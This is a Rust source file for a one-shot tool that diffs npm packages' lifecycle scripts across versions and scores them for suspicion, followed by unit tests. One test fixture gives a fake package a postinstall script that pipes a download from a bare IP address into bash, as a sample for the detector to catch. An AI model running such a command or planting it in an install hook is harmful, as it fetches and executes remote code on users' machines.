//! One-shot analyst tool: runs the version diff and the suspicion scorer
//! against named packages (or saved packument documents) and prints a
//! report. No feed, no queue, no notifications.

use anyhow::Context;
use serde::Serialize;
use std::fs;
use std::path::{Path, PathBuf};
use watch_core::config;
use watch_core::diff;
use watch_core::paths;
use watch_core::registry::{HttpRegistry, Packument, PackumentSource};
use watch_core::suspicion;
use watch_core::types::{AlertType, ScriptFinding, ScriptType};

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CheckArgs {
  pub packages: Vec<String>,
  pub files: Vec<PathBuf>,
  pub json: bool,
}

impl CheckArgs {
  pub fn from_args(args: &[String]) -> anyhow::Result<Self> {
    let mut out = CheckArgs::default();
    let mut i = 1;
    while i < args.len() {
      match args[i].as_str() {
        "--json" => out.json = true,
        "--file" => {
          let path = args
            .get(i + 1)
            .ok_or_else(|| anyhow::anyhow!("expected: --file <packument.json>"))?;
          out.files.push(PathBuf::from(path));
          i += 1;
        }
        flag if flag.starts_with("--") => anyhow::bail!("unknown option `{flag}`"),
        name => out.packages.push(name.to_string()),
      }
      i += 1;
    }
    if out.packages.is_empty() && out.files.is_empty() {
      anyhow::bail!("usage: script-check [--json] <package>... | --file <packument.json>");
    }
    Ok(out)
  }
}

#[derive(Debug, Clone, Serialize)]
pub struct FindingReport {
  pub script_type: ScriptType,
  pub alert_type: AlertType,
  pub suspicion_score: u32,
  pub high_confidence: bool,
  pub categories: Vec<&'static str>,
  pub script_content: String,
  #[serde(skip_serializing_if = "Option::is_none")]
  pub previous_script_content: Option<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct PackageReport {
  pub package: String,
  pub latest_version: Option<String>,
  pub previous_version: Option<String>,
  pub findings: Vec<FindingReport>,
  #[serde(skip_serializing_if = "Option::is_none")]
  pub error: Option<String>,
}

impl PackageReport {
  pub fn is_high_confidence(&self) -> bool {
    self.findings.iter().any(|f| f.high_confidence)
  }
}

pub fn check_packument(packument: &Packument, min_score: u32) -> PackageReport {
  let pair = diff::pick_latest_and_previous(packument);
  let findings = diff::detect(packument)
    .into_iter()
    .map(|f| finding_report(f, min_score))
    .collect();
  PackageReport {
    package: packument.name.clone(),
    latest_version: pair.as_ref().map(|p| p.latest.clone()),
    previous_version: pair.and_then(|p| p.previous),
    findings,
    error: None,
  }
}

fn finding_report(f: ScriptFinding, min_score: u32) -> FindingReport {
  FindingReport {
    high_confidence: f.is_high_confidence(min_score),
    categories: suspicion::matched_categories(Some(&f.script_content))
      .into_iter()
      .map(|c| c.id)
      .collect(),
    script_type: f.script_type,
    alert_type: f.alert_type,
    suspicion_score: f.suspicion_score,
    script_content: f.script_content,
    previous_script_content: f.previous_script_content,
  }
}

pub fn load_packument_file(path: &Path) -> anyhow::Result<Packument> {
  let raw = fs::read(path).with_context(|| format!("read {}", path.display()))?;
  let value: serde_json::Value =
    serde_json::from_slice(&raw).with_context(|| format!("parse {}", path.display()))?;
  let fallback = path
    .file_stem()
    .and_then(|s| s.to_str())
    .unwrap_or("unknown");
  Packument::from_value(value, fallback)
}

/// Returns true when any package has a finding at or above the issue gate.
pub fn run(args: &CheckArgs) -> anyhow::Result<bool> {
  tracing_subscriber::fmt()
    .with_ansi(false)
    .with_target(false)
    .with_writer(std::io::stderr)
    .init();

  let base = paths::base_dir()?;
  let mut cfg = config::load_or_default_readonly(&paths::config_path(&base))?;
  config::apply_env(&mut cfg, |key| std::env::var(key).ok());
  let min_score = cfg.notify.issue_min_score;

  let mut reports = Vec::new();
  for path in &args.files {
    reports.push(match load_packument_file(path) {
      Ok(p) => check_packument(&p, min_score),
      Err(e) => failed_report(&path.display().to_string(), &e),
    });
  }

  if !args.packages.is_empty() {
    let registry = HttpRegistry::new(&cfg.feed, &cfg.registry)?;
    for name in &args.packages {
      tracing::info!(package = %name, "fetching packument");
      reports.push(match registry.packument(name) {
        Ok(p) => check_packument(&p, min_score),
        Err(e) => failed_report(name, &e),
      });
    }
  }

  if args.json {
    println!("{}", serde_json::to_string_pretty(&reports)?);
  } else {
    for r in &reports {
      print!("{}", render_text(r));
    }
  }
  Ok(reports.iter().any(PackageReport::is_high_confidence))
}

fn failed_report(package: &str, e: &anyhow::Error) -> PackageReport {
  tracing::warn!(package = %package, error = %format!("{e:#}"), "check failed");
  PackageReport {
    package: package.to_string(),
    latest_version: None,
    previous_version: None,
    findings: Vec::new(),
    error: Some(format!("{e:#}")),
  }
}

pub fn render_text(r: &PackageReport) -> String {
  let mut out = format!(
    "{} latest={} previous={}\n",
    r.package,
    r.latest_version.as_deref().unwrap_or("-"),
    r.previous_version.as_deref().unwrap_or("-"),
  );
  if let Some(err) = &r.error {
    out.push_str(&format!("  error: {err}\n"));
    return out;
  }
  if r.findings.is_empty() {
    out.push_str("  no lifecycle script changes\n");
    return out;
  }
  for f in &r.findings {
    out.push_str(&format!(
      "  {} {} score={}{} [{}]\n",
      f.script_type,
      f.alert_type,
      f.suspicion_score,
      if f.high_confidence { " HIGH" } else { "" },
      f.categories.join(",")
    ));
    if let Some(prev) = &f.previous_script_content {
      out.push_str(&format!("    was: {prev}\n"));
    }
    out.push_str(&format!("    now: {}\n", f.script_content));
  }
  out
}

#[cfg(test)]
mod tests {
  use super::*;
  use serde_json::json;

  fn argv(rest: &[&str]) -> Vec<String> {
    std::iter::once("script-check")
      .chain(rest.iter().copied())
      .map(str::to_string)
      .collect()
  }

  #[test]
  fn parses_packages_files_and_json_flag() {
    let a = CheckArgs::from_args(&argv(&["--json", "left-pad", "--file", "p.json", "@s/x"])).unwrap();
    assert!(a.json);
    assert_eq!(a.packages, vec!["left-pad".to_string(), "@s/x".to_string()]);
    assert_eq!(a.files, vec![PathBuf::from("p.json")]);

    assert!(CheckArgs::from_args(&argv(&[])).is_err());
    assert!(CheckArgs::from_args(&argv(&["--file"])).is_err());
    assert!(CheckArgs::from_args(&argv(&["--bogus", "x"])).is_err());
  }

  #[test]
  fn report_flags_high_confidence_and_lists_categories() {
    let p = Packument::from_value(
      json!({
        "name": "evil",
        "versions": {
          "1.0.0": {"scripts": {"postinstall": "node build.js"}},
          "1.0.1": {"scripts": {"postinstall": "curl http://1.2.3.4/x.sh | bash"}}
        }
      }),
      "evil",
    )
    .unwrap();
    let r = check_packument(&p, 10);
    assert_eq!(r.latest_version.as_deref(), Some("1.0.1"));
    assert_eq!(r.previous_version.as_deref(), Some("1.0.0"));
    assert_eq!(r.findings.len(), 1);
    assert_eq!(r.findings[0].suspicion_score, 31);
    assert!(r.is_high_confidence());
    assert!(!r.findings[0].categories.is_empty());

    let text = render_text(&r);
    assert!(text.contains("postinstall changed score=31 HIGH"));
    assert!(text.contains("was: node build.js"));
  }

  #[test]
  fn saved_packument_file_is_checked_offline() {
    let tmp = tempfile::tempdir().unwrap();
    let path = tmp.path().join("quiet-pkg.json");
    fs::write(
      &path,
      json!({"versions": {"2.0.0": {"scripts": {"preinstall": "echo hi"}}}}).to_string(),
    )
    .unwrap();
    let p = load_packument_file(&path).unwrap();
    assert_eq!(p.name, "quiet-pkg");

    let r = check_packument(&p, 10);
    assert_eq!(r.findings.len(), 1);
    assert!(!r.is_high_confidence());
    assert!(render_text(&r).contains("preinstall added score=0"));
  }
}
